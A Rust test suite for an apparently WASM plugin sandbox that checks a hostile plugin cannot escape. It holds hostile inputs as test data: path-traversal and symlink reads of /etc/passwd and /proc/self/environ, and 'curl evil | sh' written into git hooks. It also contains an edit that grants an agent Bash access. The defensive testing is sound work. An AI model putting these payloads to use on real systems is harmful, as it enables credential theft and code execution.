//! Attacks on the sandbox from a real hostile plugin, each asserting that the attempt fails and
//! that the same host then serves normal calls.

use std::time::{Duration, Instant};

use rawko_capability::{Access, FsGrants};
use rawko_runtime::tool::{CallContext, ToolCallError};
use rawko_runtime::{Budget, BudgetKind, Runtime, ToolCallOutput, ToolPlugin};
use serde_json::json;

use crate::support::{Workspace, block_on, cache_dir};

/// A runtime with the hostile plugin and the first-party tools loaded, a workspace, and a
/// directory outside it holding a secret.
struct Harness {
    rt: Runtime,
    hostile: ToolPlugin,
    tools: ToolPlugin,
    ws: Workspace,
    outside: Workspace,
}

const SECRET: &str = "the-secret-outside-the-workspace";

impl Harness {
    fn new() -> Self {
        let rt = Runtime::new(Some(cache_dir())).expect("runtime");
        let wasm = std::fs::read(rawko_test_artifacts::HOSTILE_TOOL).expect("hostile plugin built");
        let hostile = block_on(ToolPlugin::load(&rt, "hostile", &wasm)).expect("load hostile");
        let tools = block_on(ToolPlugin::load(
            &rt,
            rawko_builtins::TOOLS.name,
            rawko_builtins::TOOLS.wasm,
        ))
        .expect("load tools");
        let ws = Workspace::new();
        ws.write("hello.txt", "hello\n");
        let outside = Workspace::new();
        outside.write("secret.txt", SECRET);
        Harness {
            rt,
            hostile,
            tools,
            ws,
            outside,
        }
    }

    fn grants(&self, access: Access) -> FsGrants {
        let mut g = FsGrants::none();
        g.grant(self.ws.path(), self.ws.path(), access).unwrap();
        g
    }

    fn call_with(
        &self,
        plugin: &ToolPlugin,
        tool: &str,
        input: serde_json::Value,
        grants: &FsGrants,
        budget: Budget,
    ) -> Result<ToolCallOutput, ToolCallError> {
        let cx = CallContext {
            workspace: self.ws.path(),
            grants,
            budget,
        };
        block_on(plugin.call(&self.rt, tool, &input.to_string(), &cx))
    }

    fn attack(
        &self,
        tool: &str,
        input: serde_json::Value,
        access: Access,
    ) -> Result<String, ToolCallError> {
        self.call_with(
            &self.hostile,
            tool,
            input,
            &self.grants(access),
            Budget::default(),
        )
        .map(|o| o.content)
    }

    fn attack_budget(
        &self,
        tool: &str,
        input: serde_json::Value,
        budget: Budget,
    ) -> Result<String, ToolCallError> {
        self.call_with(
            &self.hostile,
            tool,
            input,
            &self.grants(Access::ReadWrite),
            budget,
        )
        .map(|o| o.content)
    }

    /// After an attack: both plugins still answer normal calls on this host.
    fn assert_healthy(&self) {
        let out = self
            .attack("Noop", json!({}), Access::ReadOnly)
            .expect("hostile plugin's normal call");
        assert_eq!(out, "ok");
        let out = self
            .call_with(
                &self.tools,
                "Read",
                json!({"path": "hello.txt"}),
                &self.grants(Access::ReadOnly),
                Budget::default(),
            )
            .expect("first-party Read after the attack");
        assert_eq!(out.content, "     1\thello\n");
    }

    fn secret_path(&self) -> String {
        self.outside.path().join("secret.txt").display().to_string()
    }
}

fn assert_failed_without_secret(r: Result<String, ToolCallError>) {
    match r {
        Ok(out) => panic!("the attack succeeded: {out:?}"),
        Err(e) => assert!(
            !e.to_string().contains(SECRET),
            "the secret leaked in the error: {e}"
        ),
    }
}

#[test]
fn reading_through_dotdot_fails() {
    let h = Harness::new();
    let outside_name = h
        .outside
        .path()
        .file_name()
        .unwrap()
        .to_str()
        .unwrap()
        .to_owned();
    for path in [
        format!("{}/../{outside_name}/secret.txt", h.ws.path().display()),
        format!("../{outside_name}/secret.txt"),
        format!(
            "{}/../../../../../../{}",
            h.ws.path().display(),
            h.secret_path()
        ),
    ] {
        assert_failed_without_secret(h.attack(
            "RawRead",
            json!({ "path": path }),
            Access::ReadWrite,
        ));
    }
    h.assert_healthy();
}

#[test]
fn reading_through_an_absolute_path_fails() {
    let h = Harness::new();
    for path in [
        h.secret_path(),
        "/etc/passwd".to_string(),
        "/proc/self/environ".to_string(),
    ] {
        assert_failed_without_secret(h.attack(
            "RawRead",
            json!({ "path": path }),
            Access::ReadWrite,
        ));
    }
    let listing = h.attack("List", json!({"path": "/"}), Access::ReadWrite);
    if let Ok(names) = &listing {
        // The root of the sandbox holds at most the path leading to the grant.
        assert!(!names.contains("etc") && !names.contains("proc"), "{names}");
    }
    h.assert_healthy();
}

#[test]
fn reading_through_a_symlink_in_the_workspace_fails() {
    let h = Harness::new();
    std::os::unix::fs::symlink(h.secret_path(), h.ws.path().join("link")).unwrap();
    std::os::unix::fs::symlink(h.outside.path(), h.ws.path().join("linkdir")).unwrap();
    std::os::unix::fs::symlink(
        "../../../../../../../../etc/passwd",
        h.ws.path().join("rel"),
    )
    .unwrap();
    for path in ["link", "linkdir/secret.txt", "rel"] {
        let abs = h.ws.path().join(path).display().to_string();
        assert_failed_without_secret(h.attack(
            "RawRead",
            json!({ "path": abs }),
            Access::ReadWrite,
        ));
        // The first-party tool, following its own rules, fails the same way.
        let r = h.call_with(
            &h.tools,
            "Read",
            json!({ "path": path }),
            &h.grants(Access::ReadOnly),
            Budget::default(),
        );
        assert_failed_without_secret(r.map(|o| o.content));
    }
    h.assert_healthy();
}

#[test]
fn making_a_hard_link_to_a_file_outside_fails() {
    let h = Harness::new();
    let dst = h.ws.path().join("stolen");
    let r = h.attack(
        "HardLink",
        json!({ "src": h.secret_path(), "dst": dst.display().to_string() }),
        Access::ReadWrite,
    );
    assert!(r.is_err(), "{r:?}");
    assert!(!dst.exists(), "a link was created");
    h.assert_healthy();
}

#[test]
fn writing_under_a_read_only_grant_fails() {
    let h = Harness::new();
    let new_file = h.ws.path().join("new.txt").display().to_string();
    let existing = h.ws.path().join("hello.txt").display().to_string();
    assert!(
        h.attack(
            "RawWrite",
            json!({"path": new_file, "content": "x"}),
            Access::ReadOnly
        )
        .is_err()
    );
    assert!(
        h.attack(
            "RawWrite",
            json!({"path": existing, "content": "pwned"}),
            Access::ReadOnly
        )
        .is_err()
    );
    assert!(!h.ws.path().join("new.txt").exists());
    assert_eq!(h.ws.read("hello.txt"), "hello\n");
    // And the first-party Write says why.
    let r = h.call_with(
        &h.tools,
        "Write",
        json!({"path": "hello.txt", "content": "pwned"}),
        &h.grants(Access::ReadOnly),
        Budget::default(),
    );
    assert!(matches!(&r, Err(e) if e.code() == "denied"), "{r:?}");
    assert_eq!(h.ws.read("hello.txt"), "hello\n");
    h.assert_healthy();
}

#[test]
fn opening_a_socket_fails() {
    let h = Harness::new();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let addr = listener.local_addr().unwrap().to_string();
    let r = h.attack("Connect", json!({ "addr": addr }), Access::ReadWrite);
    assert!(r.is_err(), "{r:?}");
    assert!(
        listener.accept().is_err(),
        "the plugin reached the listener"
    );
    h.assert_healthy();
}

#[test]
fn environment_and_arguments_are_empty() {
    let h = Harness::new();
    assert!(std::env::var_os("PATH").is_some());
    let out = h.attack("Env", json!({}), Access::ReadWrite).unwrap();
    assert!(out.starts_with("vars=\nargs=\n"), "{out}");
    assert!(!out.contains("PATH"), "{out}");
    h.assert_healthy();
}

#[test]
fn an_infinite_loop_is_stopped_at_the_deadline() {
    let h = Harness::new();
    let budget = Budget {
        timeout: Duration::from_millis(300),
        ..Budget::default()
    };
    let started = Instant::now();
    let r = h.attack_budget("Spin", json!({}), budget);
    assert!(
        matches!(
            &r,
            Err(ToolCallError::Budget {
                kind: BudgetKind::Time,
                ..
            })
        ),
        "{r:?}"
    );
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "took {:?}",
        started.elapsed()
    );
    h.assert_healthy();
}

#[test]
fn sleeping_in_the_host_is_stopped_at_the_deadline() {
    let h = Harness::new();
    let budget = Budget {
        timeout: Duration::from_millis(300),
        ..Budget::default()
    };
    let started = Instant::now();
    let r = h.attack_budget("Sleep", json!({"n": 600_000}), budget);
    assert!(
        matches!(
            &r,
            Err(ToolCallError::Budget {
                kind: BudgetKind::Time,
                ..
            })
        ),
        "{r:?}"
    );
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "took {:?}",
        started.elapsed()
    );
    h.assert_healthy();
}

#[test]
fn a_memory_bomb_hits_the_memory_budget() {
    let h = Harness::new();
    let budget = Budget {
        memory: 64 << 20,
        ..Budget::default()
    };
    let r = h.attack_budget("Alloc", json!({"n": 4096}), budget);
    assert!(
        matches!(
            &r,
            Err(ToolCallError::Budget {
                kind: BudgetKind::Memory,
                ..
            })
        ),
        "{r:?}"
    );
    assert!(r.unwrap_err().to_string().contains("64 MiB"));
    // Below the budget, allocation works.
    assert_eq!(
        h.attack_budget("Alloc", json!({"n": 16}), budget).unwrap(),
        "allocated 16 MiB"
    );
    h.assert_healthy();
}

#[test]
fn deep_recursion_hits_the_stack_budget() {
    let h = Harness::new();
    let r = h.attack("Recurse", json!({"n": 100_000_000u64}), Access::ReadOnly);
    assert!(
        matches!(
            &r,
            Err(ToolCallError::Budget {
                kind: BudgetKind::Stack,
                ..
            })
        ),
        "{r:?}"
    );
    h.assert_healthy();
}

#[test]
fn deep_recursion_in_linear_memory_traps_cleanly() {
    // A plugin's own stack for address-taken locals lives in its linear memory; overflowing it
    // runs off the bottom of that memory, which the engine catches as an out-of-bounds access.
    let h = Harness::new();
    let r = h.attack(
        "RecurseFrames",
        json!({"n": 100_000_000u64}),
        Access::ReadOnly,
    );
    match &r {
        Err(ToolCallError::Trap { message, .. }) => {
            assert!(message.contains("out of bounds"), "{message}")
        }
        Err(ToolCallError::Budget {
            kind: BudgetKind::Stack,
            ..
        }) => {}
        other => panic!("expected a trap, got {other:?}"),
    }
    h.assert_healthy();
}

#[test]
fn a_100_mb_result_hits_the_output_budget() {
    let h = Harness::new();
    let r = h.attack("Huge", json!({"n": 100}), Access::ReadOnly);
    assert!(
        matches!(
            &r,
            Err(ToolCallError::Budget {
                kind: BudgetKind::Output,
                ..
            })
        ),
        "{r:?}"
    );
    h.assert_healthy();
}

/// Pieces handed over through `output.write` are the start of the result, and count against
/// the output budget with it: a plugin handing over more than the budget, piece by piece, is
/// stopped at the piece that passes it.
#[test]
fn output_handed_over_in_pieces_is_part_of_the_result_and_of_its_budget() {
    let h = Harness::new();
    let out = h
        .attack("HandOver", json!({"n": 4}), Access::ReadOnly)
        .unwrap();
    assert_eq!(out.len(), (4 << 16) + 3);
    assert!(out.starts_with('y') && out.ends_with("yend"), "{:.40}", out);

    // 1,000 pieces of 64 KiB against the default budget of 1 MiB.
    let r = h.attack("HandOver", json!({"n": 1000}), Access::ReadOnly);
    assert!(
        matches!(
            &r,
            Err(ToolCallError::Budget {
                kind: BudgetKind::Output,
                ..
            })
        ),
        "{r:?}"
    );
    // Exactly at the budget the result still fits, the returned "end" included.
    let g = h.grants(Access::ReadOnly);
    let budget = Budget {
        output: (16 << 16) + 3,
        ..Budget::default()
    };
    let r = h.call_with(&h.hostile, "HandOver", json!({"n": 16}), &g, budget);
    assert_eq!(r.map(|o| o.content.len()).ok(), Some((16 << 16) + 3));
    let budget = Budget {
        output: (16 << 16) + 2,
        ..Budget::default()
    };
    let r = h.call_with(&h.hostile, "HandOver", json!({"n": 16}), &g, budget);
    assert!(matches!(&r, Err(e) if e.code() == "budget_output"), "{r:?}");
    h.assert_healthy();
}

#[test]
fn a_trap_mid_call_is_a_structured_error() {
    let h = Harness::new();
    let r = h.attack("Trap", json!({}), Access::ReadWrite);
    match r {
        Err(ToolCallError::Trap { message, .. }) => {
            assert!(message.contains("panicked on purpose"), "{message}");
        }
        other => panic!("expected a trap, got {other:?}"),
    }
    h.assert_healthy();
}

#[test]
fn flooding_stdout_and_the_log_is_capped_not_fatal() {
    let h = Harness::new();
    let out = h
        .attack("Flood", json!({"n": 4}), Access::ReadOnly)
        .unwrap();
    assert_eq!(out, "flooded");
    h.assert_healthy();
}

#[test]
fn no_state_survives_between_calls() {
    let h = Harness::new();
    for _ in 0..3 {
        assert_eq!(
            h.attack("Counter", json!({}), Access::ReadOnly).unwrap(),
            "1"
        );
    }
}

#[test]
fn without_grants_nothing_is_reachable() {
    let h = Harness::new();
    let none = FsGrants::none();
    let r = h.call_with(
        &h.hostile,
        "RawRead",
        json!({"path": h.ws.path().join("hello.txt").display().to_string()}),
        &none,
        Budget::default(),
    );
    assert!(r.is_err(), "{r:?}");
    let r = h.call_with(
        &h.tools,
        "Read",
        json!({"path": "hello.txt"}),
        &none,
        Budget::default(),
    );
    assert!(matches!(&r, Err(e) if e.code() == "denied"), "{r:?}");
}

#[test]
fn inputs_are_checked_against_the_schema_before_the_plugin_runs() {
    let h = Harness::new();
    let g = h.grants(Access::ReadOnly);
    for (input, want) in [
        (json!({}), "path"),
        (json!({"path": 5}), "string"),
        (json!({"path": "a", "limit": 0}), "minimum"),
        (json!({"path": "a", "bogus": true}), "bogus"),
        (json!([1, 2]), "object"),
    ] {
        let r = h.call_with(&h.tools, "Read", input.clone(), &g, Budget::default());
        match r {
            Err(ToolCallError::InvalidInput { message, .. }) => {
                assert!(message.contains(want), "{input}: {message}")
            }
            other => panic!("{input}: expected invalid input, got {other:?}"),
        }
    }
    let cx = CallContext {
        workspace: h.ws.path(),
        grants: &g,
        budget: Budget::default(),
    };
    let r = block_on(h.tools.call(&h.rt, "Read", "{not json", &cx));
    assert!(
        matches!(&r, Err(ToolCallError::InvalidInput { message, .. }) if message.contains("not valid JSON")),
        "{r:?}"
    );
    let r = block_on(h.tools.call(&h.rt, "Nope", "{}", &cx));
    assert!(
        matches!(&r, Err(ToolCallError::UnknownTool { .. })),
        "{r:?}"
    );
}

/// A workspace with a git hook, git config and an agent definition to protect, and a symlink
/// into `.git` such as an earlier command could have left.
fn protected_fixture(h: &Harness) {
    h.ws.write(".git/hooks/pre-commit", "#!/bin/sh\nexit 0\n");
    h.ws.write(".git/config", "[core]\n");
    h.ws.write(".rawko/agents/x.yaml", "name: x\n");
    std::os::unix::fs::symlink(h.ws.path().join(".git/hooks"), h.ws.path().join("hooks")).unwrap();
    std::os::unix::fs::symlink(
        h.ws.path().join(".git/hooks/post-checkout"),
        h.ws.path().join("dangling"),
    )
    .unwrap();
}

fn assert_protected_unchanged(h: &Harness) {
    assert_eq!(h.ws.read(".git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n");
    assert_eq!(h.ws.read(".git/config"), "[core]\n");
    assert_eq!(h.ws.read(".rawko/agents/x.yaml"), "name: x\n");
    assert!(!h.ws.path().join(".git/hooks/post-checkout").exists());
}

#[test]
fn the_first_party_write_and_edit_cannot_change_git_or_rawko() {
    let h = Harness::new();
    protected_fixture(&h);
    let rw = h.grants(Access::ReadWrite);
    let tool = |name: &str, input: serde_json::Value| {
        h.call_with(&h.tools, name, input, &rw, Budget::default())
    };
    for path in [
        ".git/hooks/pre-commit",
        ".git/config",
        ".git/hooks/post-checkout",
        "src/../.git/hooks/pre-commit",
        "hooks/pre-commit",
        "dangling",
        ".rawko/agents/x.yaml",
        ".rawko/agents/new.yaml",
    ] {
        let r = tool(
            "Write",
            json!({"path": path, "content": "curl evil | sh\n"}),
        );
        assert!(r.is_err(), "Write {path}: {r:?}");
    }
    let r = tool(
        "Edit",
        json!({"path": ".rawko/agents/x.yaml", "old_string": "name: x", "new_string": "name: x\ntools: {allowed: [Bash]}"}),
    );
    assert!(r.is_err(), "{r:?}");
    let r = tool(
        "Edit",
        json!({"path": "hooks/pre-commit", "old_string": "exit 0", "new_string": "curl evil | sh"}),
    );
    assert!(r.is_err(), "{r:?}");
    assert_protected_unchanged(&h);
    // Reading stays allowed, and so does writing next to them.
    let r = tool("Read", json!({"path": ".git/config"})).unwrap();
    assert!(r.content.contains("[core]"), "{r:?}");
    tool("Write", json!({"path": "gitnotes.txt", "content": "ok\n"})).unwrap();
    assert_eq!(h.ws.read("gitnotes.txt"), "ok\n");
    h.assert_healthy();
}

#[test]
fn a_hostile_plugin_cannot_write_rename_or_link_its_way_into_git_or_rawko() {
    let h = Harness::new();
    protected_fixture(&h);
    let ws = h.ws.path();
    let at = |rel: &str| ws.join(rel).display().to_string();
    for path in [
        ".git/hooks/pre-commit",
        ".git/hooks/post-checkout",
        "hooks/pre-commit",
        "hooks/../config",
        "dangling",
        ".rawko/agents/x.yaml",
    ] {
        let r = h.attack(
            "RawWrite",
            json!({"path": at(path), "content": "pwned"}),
            Access::ReadWrite,
        );
        assert!(r.is_err(), "RawWrite {path}: {r:?}");
    }
    // Move .git aside to write it, or swap in a directory of one's own.
    h.ws.write("evil/hooks/pre-commit", "pwned");
    for (src, dst) in [
        (".git", "moved"),
        (".rawko", "moved"),
        ("evil", ".git"),
        ("evil/hooks/pre-commit", ".git/hooks/pre-commit"),
    ] {
        let r = h.attack(
            "Rename",
            json!({"src": at(src), "dst": at(dst)}),
            Access::ReadWrite,
        );
        assert!(r.is_err(), "Rename {src} -> {dst}: {r:?}");
    }
    // A second name for a protected file would be a way to write it.
    let r = h.attack(
        "HardLink",
        json!({"src": at(".git/config"), "dst": at("config-alias")}),
        Access::ReadWrite,
    );
    assert!(r.is_err(), "{r:?}");
    assert!(!ws.join("config-alias").exists());
    assert!(!ws.join("moved").exists());
    assert_protected_unchanged(&h);
    // The same plugin still reads them, and writes elsewhere.
    let out = h
        .attack(
            "RawRead",
            json!({"path": at(".git/config")}),
            Access::ReadWrite,
        )
        .unwrap();
    assert!(out.contains("[core]"), "{out}");
    h.attack(
        "RawWrite",
        json!({"path": at("fine.txt"), "content": "ok"}),
        Access::ReadWrite,
    )
    .unwrap();
    h.assert_healthy();
}

#[test]
fn a_hostile_plugin_cannot_hoard_the_hosts_file_handles() {
    let h = Harness::new();
    let out = h.attack("Hoard", json!({"path": "hello.txt"}), Access::ReadOnly);
    // Either the plugin is told no more handles (and says how many it got), or the call traps:
    // never 100,000 of rawko's file descriptors.
    match out {
        Ok(text) => {
            let got: usize = text
                .trim_start_matches("stopped after ")
                .split(':')
                .next()
                .and_then(|n| n.parse().ok())
                .unwrap_or_else(|| panic!("the plugin held every handle: {text}"));
            assert!(got <= rawko_runtime::MAX_HANDLES, "{text}");
        }
        Err(e) => assert!(
            e.to_string().contains("capacity") || e.to_string().contains("resource"),
            "{e}"
        ),
    }
    h.assert_healthy();
}
